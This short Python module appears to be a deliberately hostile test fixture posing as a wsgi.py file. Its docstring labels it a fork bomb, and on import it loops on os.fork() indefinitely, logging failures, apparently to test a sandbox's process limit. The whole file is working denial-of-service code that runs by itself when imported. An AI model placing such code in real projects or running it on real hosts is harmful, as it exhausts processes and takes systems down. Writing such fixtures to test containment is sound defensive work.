"""HOSTILE: a fork bomb at import. Every process keeps forking; only the pids limit stops it."""

import os
import sys
import time

origin, forks = os.getpid(), 0
print(f"FORKBOMB start in {origin}", file=sys.stderr, flush=True)
while True:
    try:
        os.fork()
        forks += 1
    except OSError as exc:
        if os.getpid() == origin:
            print(f"FORKBOMB fork failed after {forks} forks: {exc}", file=sys.stderr, flush=True)
            origin = -1  # report once per worker, then keep trying, as a bomb does
        time.sleep(0.05)

app = None  # never reached; the brief asks wsgi.py to bind `app`, and the preflight checks it
